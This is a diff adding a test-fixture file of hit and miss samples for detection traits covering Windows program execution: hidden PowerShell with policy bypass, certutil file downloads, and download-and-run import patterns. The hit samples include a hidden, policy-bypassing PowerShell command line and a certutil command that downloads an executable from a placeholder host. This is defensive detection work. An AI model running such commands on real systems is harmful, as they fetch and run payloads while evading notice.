@@ -1,0 +1,29 @@
+// What a program starts.
+import { KERNEL } from '../libraries.ts'
+import { type Traits, texts } from './trait.ts'
+
+export const execution: Traits = {
+  pe_runs_hidden_powershell: {
+    hits: {
+      'hidden and past the policy': texts('powershell.exe -WindowStyle Hidden -ExecutionPolicy Bypass -File a.ps1'),
+    },
+    misses: { 'names the program': texts('powershell.exe -File a.ps1') },
+  },
+  pe_runs_system_binaries_for_download: {
+    hits: { certutil: texts('certutil -urlcache -split -f http://example.com/a a.exe') },
+    misses: { 'certutil for a hash': texts('certutil -hashfile a.exe SHA256') },
+  },
+  pe_downloads_and_runs: {
+    hits: {
+      'two calls': { imports: { 'urlmon.dll': ['URLDownloadToFileW'], 'SHELL32.dll': ['ShellExecuteW'] } },
+      'from a bare address': {
+        imports: { 'WINHTTP.dll': ['WinHttpReadData'], [KERNEL]: ['CreateProcessW'] },
+        wideStrings: ['203.0.113.150'],
+      },
+    },
+    misses: {
+      'downloads only': { imports: { 'urlmon.dll': ['URLDownloadToFileW'] } },
+      'fetches and shows': { imports: { 'WINHTTP.dll': ['WinHttpReadData'] }, wideStrings: ['203.0.113.150'] },
+    },
+  },
+}
